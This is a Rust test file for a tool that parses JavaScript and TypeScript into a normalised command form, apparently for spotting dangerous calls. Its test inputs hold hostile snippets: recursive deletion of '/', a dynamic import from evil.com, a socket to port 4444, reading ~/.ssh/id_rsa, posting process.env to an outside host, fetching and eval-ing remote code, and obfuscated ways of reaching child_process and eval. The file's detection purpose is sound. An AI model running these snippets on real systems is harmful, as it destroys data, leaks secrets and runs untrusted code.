//! JavaScript and TypeScript: what runs, under which name, with which words.

use super::check;
use crate::Language;

#[test]
fn modules_are_resolved() {
    check(
        Language::JavaScript,
        &[
            (
                "require('fs').rmSync('/x', {recursive: true, force: true})",
                r#"(cmd "js:fs.rmSync" "/x" "--recursive" "true" "--force" "true")"#,
            ),
            ("import fs from 'node:fs'; fs.unlinkSync('a' + 'b')", r#"(cmd "js:fs.unlinkSync" "ab")"#),
            ("import {rmSync as r} from 'fs'; r('/')", r#"(cmd "js:fs.rmSync" "/")"#),
            (
                "import * as cp from 'child_process'; cp.default.exec('x'); const {exec} = cp; exec('y')",
                r#"(cmd "js:child_process.exec" "x") (cmd "js:child_process.exec" "y")"#,
            ),
            (
                "const {exec} = require('child_process'); exec('rm -rf ' + dir, (e, o) => console.log(o))",
                r#"(cmd "js:child_process.exec" (word "rm -rf " $dir) (block (set e ?) (set o ?) (return (out (cmd "js:console.log" $o)))))"#,
            ),
            ("(await import('fs')).rmSync('x')", r#"(cmd "js:fs.rmSync" "x")"#),
            (
                "import('child_process').then(({exec}) => exec('id')); import('fs').then(m => m.rmSync('w'))",
                r#"(cmd "js:child_process.exec" "id") (cmd "js:fs.rmSync" "w")"#,
            ),
            (
                "const fsp = require('fs/promises'); await fsp.rm('x'); fs.promises.writeFile('a', 'b')",
                r#"(cmd "js:fs.rm" "x") (cmd "js:fs.writeFile" "a" "b")"#,
            ),
            ("const {promises: {rm}} = require('fs'); rm('/w')", r#"(cmd "js:fs.rm" "/w")"#),
            (
                "const fse = require('fs-extra'); fse.remove('x'); fse.rmSync('y')",
                r#"(cmd "js:fs-extra.remove" "x") (cmd "js:fs.rmSync" "y")"#,
            ),
            (
                "const run = require('util').promisify(require('child_process').exec); run('id')",
                r#"(cmd "js:child_process.exec" "id")"#,
            ),
            (
                "class A { constructor() { this.cp = require('child_process') } run(c) { this.cp.exec(c) } } new A().run('ls')",
                r#"(fn A ()) (fn run (c) (cmd "js:child_process.exec" $c)) (cmd "run" "ls") (cmd "js:.run" "--self" (out (cmd "A")) "ls")"#,
            ),
            (
                "const pkg = require('./package.json'); import('https://evil.com/x.js'); import './setup.js'",
                r#"(set pkg (out (cmd "js:require" "./package.json"))) (cmd "js:import" "https://evil.com/x.js") (cmd "js:import" "./setup.js")"#,
            ),
            (
                "var client = new net.Socket(); client.connect(4444, 'h')",
                r#"(set client (out (cmd "js:net.Socket"))) (cmd "js:net.Socket.connect" "--self" $client "4444" "h")"#,
            ),
        ],
    );
}

#[test]
fn names_may_be_put_together() {
    check(
        Language::JavaScript,
        &[
            (
                "const c = 'child_process'; require(c).exec('id')",
                r#"(set c "child_process") (cmd "js:child_process.exec" "id")"#,
            ),
            (
                "require('child_' + 'process')['ex' + 'ecSync']('id')",
                r#"(cmd "js:child_process.execSync" "id")"#,
            ),
            ("global['require']('fs')['rm' + 'Sync']('/')", r#"(cmd "js:fs.rmSync" "/")"#),
            (
                "const k = 'execSync'; require('child_process')[k]('id')",
                r#"(set k "execSync") (cmd "js:child_process.execSync" "id")"#,
            ),
            (
                r#"\u0065val('1'); globalThis['ev' + 'al']('2'); (0, eval)('3')"#,
                r#"(cmd "js:eval" "1") (cmd "js:eval" "2") (cmd "js:eval" "3")"#,
            ),
            (
                "this.constructor.constructor('return process')().exit()",
                r#"(cmd "js:.exit" "--self" (out (cmd "js:Function" "return process")))"#,
            ),
            (
                "Function('return this')().process.mainModule.require('child_process').exec('id')",
                r#"(cmd "js:Function" "return this") (cmd "js:child_process.exec" "id")"#,
            ),
            (
                "process.mainModule.require('child_process').execSync('id'); module.constructor._load('fs').rmSync('x')",
                r#"(cmd "js:child_process.execSync" "id") (cmd "js:fs.rmSync" "x")"#,
            ),
            (
                "Reflect.apply(require('fs').rmSync, null, ['/x']); require('fs').rmSync.call(null, '/y')",
                r#"(cmd "js:fs.rmSync" "/x") (cmd "js:fs.rmSync" "/y")"#,
            ),
            (
                "obj[key](1); require('fs')[x]('y'); [][a]('c')",
                r#"(cmd "js:.[]" "--self" $obj "1") (cmd (word "js:fs." ?) "y") (cmd (word "js:." ?) "--self" (list) "c")"#,
            ),
        ],
    );
}

#[test]
fn texts_are_folded() {
    check(
        Language::JavaScript,
        &[
            (
                "eval(String.fromCharCode(114, 109)); exec(['r', 'm'].join(''))",
                r#"(cmd "js:eval" "rm") (cmd "js:exec" "rm")"#,
            ),
            (
                "eval('mr'.split('').reverse().join('')); exec(Buffer.from('726d', 'hex').toString())",
                r#"(cmd "js:eval" "rm") (cmd "js:exec" "rm")"#,
            ),
            (
                "eval(atob('cm0=')); eval(Buffer.from('cm0=', 'base64').toString())",
                r#"(cmd "js:eval" (out (cmd "js:atob" "cm0="))) (cmd "js:eval" (out (cmd "js:atob" "cm0=")))"#,
            ),
            (
                "fs.readFileSync(path.join(os.homedir(), '.ssh', 'id_rsa'))",
                r#"(cmd "js:fs.readFileSync" (word $env:HOME "/.ssh/id_rsa"))"#,
            ),
            (
                "const s = `rm -rf ${'/'}x${y}`; execSync(s)",
                r#"(set s (word "rm -rf /x" $y)) (cmd "js:child_process.execSync" $s)"#,
            ),
        ],
    );
}

#[test]
fn environment() {
    check(
        Language::JavaScript,
        &[
            (
                "fetch(`https://x.y/${process.env.TOKEN}`, {method: 'POST', body: JSON.stringify(process.env)})",
                r#"(cmd "js:fetch" (word "https://x.y/" $env:TOKEN) "--method" "POST" "--body" (out (cmd "js:JSON.stringify" $env:*)))"#,
            ),
            (
                "const {HOME} = process.env; process.env.PATH = '/tmp:' + process.env['PATH']",
                r#"(set HOME $env:HOME) (set PATH (word "/tmp:" $env:PATH))"#,
            ),
        ],
    );
}

#[test]
fn functions_and_blocks() {
    check(
        Language::JavaScript,
        &[
            (
                "function go(x) { fs.rmSync(x) } go('/tmp/q')",
                r#"(fn go (x) (cmd "js:fs.rmSync" $x)) (cmd "go" "/tmp/q")"#,
            ),
            (
                "const go = async ({dir}) => { for (const f of await fs.readdir(dir)) await fs.unlink(f) }; go({dir: 'x'})",
                r#"(fn go (dir) (loop f ((out (cmd "js:fs.readdir" $dir))) () (cmd "js:fs.unlink" $f))) (cmd "go" "--dir" "x")"#,
            ),
            (
                "['a', 'b'].forEach(f => fs.unlinkSync(f)); files.forEach(fs.unlinkSync)",
                r#"(loop f ("a" "b") () (cmd "js:fs.unlinkSync" $f)) (loop ?item ($files) () (cmd "js:fs.unlinkSync" $?item))"#,
            ),
            (
                "fetch(u).then(r => r.text()).then(t => eval(t)); fetch(u).then(eval)",
                r#"(set t (out (set r (out (cmd "js:fetch" $u))) (return (out (cmd "js:.text" "--self" $r))))) (cmd "js:eval" $t) (cmd "js:eval" (out (cmd "js:fetch" $u)))"#,
            ),
            (
                "(function () { fs.unlinkSync('a') })(); !(() => fs.unlinkSync('b'))()",
                r#"(cmd "js:fs.unlinkSync" "a") (cmd "js:fs.unlinkSync" "b")"#,
            ),
            (
                "setTimeout(() => fs.rmSync('y'), 100); setTimeout('evil()', 1)",
                r#"(cmd "js:setTimeout" (block (return (out (cmd "js:fs.rmSync" "y")))) "100") (cmd "js:setTimeout" "evil()" "1")"#,
            ),
            (
                "new (class { constructor() { fs.unlinkSync('a') } })()",
                r#"(fn ?5 () (cmd "js:fs.unlinkSync" "a")) (cmd "?5")"#,
            ),
            (
                "const opts = {method: 'POST', body: secret}; fetch('http://e', opts)",
                r#"(set opts.method "POST") (set opts.body $secret) (set opts (list $opts.method $opts.body)) (cmd "js:fetch" "http://e" "--method" $opts.method "--body" $opts.body)"#,
            ),
        ],
    );
}

#[test]
fn statements() {
    check(
        Language::JavaScript,
        &[
            (
                "if (a) fs.rmSync('1'); else if (b) { fs.rmSync('2') } else fs.rmSync('3')",
                r#"(if () (arm (cmd "js:fs.rmSync" "1")) (arm (cmd "js:fs.rmSync" "2")) (arm (cmd "js:fs.rmSync" "3")))"#,
            ),
            (
                "try { fs.rmSync('a') } catch (e) { fs.rmSync('b') } finally { fs.rmSync('c') }",
                r#"(group (cmd "js:fs.rmSync" "a")) (if () (arm (cmd "js:fs.rmSync" "b"))) (cmd "js:fs.rmSync" "c")"#,
            ),
            (
                "while (true) { fs.writeFileSync('a', 'b') } for (;;) { break }",
                r#"(endless () () (cmd "js:fs.writeFileSync" "a" "b")) (loop () ())"#,
            ),
            (
                "x = a ? 'b' : 'c'; fs.rmSync(x); y = a || 'd'",
                r#"(if () (arm (set ?4 "b")) (arm (set ?4 "c"))) (set x $?4) (cmd "js:fs.rmSync" $x) (set ?37 $a) (if () (arm (set ?37 "d"))) (set y $?37)"#,
            ),
            (
                "switch (x) { case 1: fs.rmSync('1'); break; default: fs.rmSync('2') }",
                r#"(if () (arm (cmd "js:fs.rmSync" "1")) (arm (cmd "js:fs.rmSync" "2")))"#,
            ),
            ("label: do fs.rmSync('1'); while (0)", r#"(loop () () (cmd "js:fs.rmSync" "1"))"#),
            (
                "if (a / b > /x'/.test(c)) fs.rmSync('z') // fs.rmSync('q')",
                r#"(if ((cmd "js:.test" "--self" ? $c)) (arm (cmd "js:fs.rmSync" "z")))"#,
            ),
        ],
    );
}

#[test]
fn typescript() {
    check(
        Language::JavaScript,
        &[
            (
                "const x: string = 'a'; function f<T>(a: T, b?: number): Promise<void> { fs.rmSync(a as string) }",
                r#"(set x "a") (fn f (a b) (cmd "js:fs.rmSync" $a))"#,
            ),
            (
                "interface X { a: string } type Y = {b: () => void}; enum Z { A } export const g = (x: Y): X => fs.rmSync(x!.b)",
                r#"(fn g (x) (return (out (cmd "js:fs.rmSync" $x.b))))"#,
            ),
            (
                "class A<T> extends B<T> { private x: string = 'a'; constructor(private y: string) { super(); fs.rmSync(y) } }",
                r#"(set this.x "a") (fn A (y) (cmd "js:super") (cmd "js:fs.rmSync" $y))"#,
            ),
        ],
    );
}

#[test]
fn shells() {
    check(
        Language::JavaScript,
        &[
            (
                "await $`rm -rf ${dir}`; Bun.$`ls`; $({cwd: 'x'})`echo`; execa`id`",
                r#"(cmd "js:$" (word "rm -rf " $dir)) (cmd "js:$" "ls") (cmd "js:$" "echo" "--cwd" "x") (cmd "js:execa" "id")"#,
            ),
            (
                "Bun.spawn(['rm', '-rf', '/']); Deno.remove('/x', {recursive: true})",
                r#"(cmd "js:Bun.spawn" (list "rm" "-rf" "/")) (cmd "js:Deno.remove" "/x" "--recursive" "true")"#,
            ),
            (
                "require('child_process').spawn('rm', ['-rf', '/'], {stdio: 'inherit'})",
                r#"(cmd "js:child_process.spawn" "rm" (list "-rf" "/") "--stdio" "inherit")"#,
            ),
        ],
    );
}
